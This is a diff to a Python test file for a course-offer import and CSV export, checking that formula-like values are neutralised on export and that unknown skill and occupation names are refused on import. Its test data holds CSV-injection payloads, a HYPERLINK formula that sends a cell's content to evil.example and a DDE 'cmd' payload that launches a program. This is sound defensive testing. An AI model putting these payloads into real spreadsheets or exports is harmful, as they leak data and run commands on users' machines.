@@ -430,13 +430,19 @@ def test_csv_export_imports_again_unchanged(
     assert "".join(export_provider_csv(other)) == exported
 
 
-#: Issue 14, finding 4: what the provider export wrote back as it was.
+#: Issue 14, finding 4: what the provider export wrote back as it was. Skills and
+#: occupations are codes since issue 17 (a name that resolves to no code is refused at the
+#: import, below), so the free text a provider fills in is the title, the description and
+#: the unit code.
 HOSTILE = {
     "title": 'Lassen; =HYPERLINK("http://evil.example/?"&A1,"Klik")',
     "description": "@SUM(1+1)*cmd|' /C calc'!A0 " + DESCRIPTION,
+    "unitCode": "-K0789",
+}
+#: Formula-like skill and occupation names: no vocabulary knows them.
+HOSTILE_NAMES = {
     "skills": ["+31 6 1234 5678", "-2+3", "'=al een aanhalingsteken", "Lassen"],
     "occupations": ["=1+1", "Lasser"],
-    "unitCode": "-K0789",
 }
 
 
@@ -461,9 +467,17 @@ def test_csv_export_neutralises_formulas_and_imports_again_unchanged(
     course = payload["courses"][0]
     course["name"][0]["value"] = HOSTILE["title"]
     course["description"][0]["value"] = HOSTILE["description"]
-    course["ext"].update(
-        skills=HOSTILE["skills"], occupations=HOSTILE["occupations"], unitCode=HOSTILE["unitCode"]
-    )
+    course["ext"].update(HOSTILE_NAMES)
+    refused = run(roc, payload)
+    assert not refused.ok
+    assert {(i.field, i.code) for i in refused.issues} == {
+        ("skills", "unknown"),
+        ("occupations", "unknown"),
+    }, refused.as_dict()
+    assert not Offer.objects.filter(opleider=roc).exists()  # nothing written
+
+    course["ext"].update(unitCode=HOSTILE["unitCode"])
+    course["ext"].update(skills=["Lassen"], occupations=["Lasser"])
     payload["programmes"][0]["description"][0]["value"] = "-2+3 " + DESCRIPTION
     assert run(roc, payload).ok  # drafts: the admission checks have not run yet
 
@@ -489,7 +503,8 @@ def test_csv_export_neutralises_formulas_and_imports_again_unchanged(
     rows = list(csv.DictReader(io.StringIO(exported.lstrip("\ufeff"), newline=""), delimiter=";"))
     written = next(r for r in rows if r["code"] == "MC-LAS")
     assert written["description"].startswith("'@SUM")
-    assert written["skills"] == "'+31 6 1234 5678|-2+3|'=al een aanhalingsteken|Lassen"
+    assert written["unitCode"] == "'-K0789"
+    assert written["skills"] == "|".join(Offer.objects.get(opleider=roc, code="MC-LAS").skills)
 
     def content(o: Offer) -> dict[str, Any]:
         snap = services.snapshot(o)
@@ -498,7 +513,7 @@ def test_csv_export_neutralises_formulas_and_imports_again_unchanged(
 
     before = {o.code: content(o) for o in Offer.objects.filter(opleider=roc)}
     assert before["MC-LAS"]["title"] == HOSTILE["title"]
-    assert before["MC-LAS"]["skills"] == HOSTILE["skills"]
+    assert before["MC-LAS"]["description"] == HOSTILE["description"]
     other = make_provider("ROC Kopie", kind="public", marks=("ocw", "nrto", "crkbo"))
     report = run(other, exported.encode(), filename="aanbod.csv")
     assert report.ok, report.as_dict()
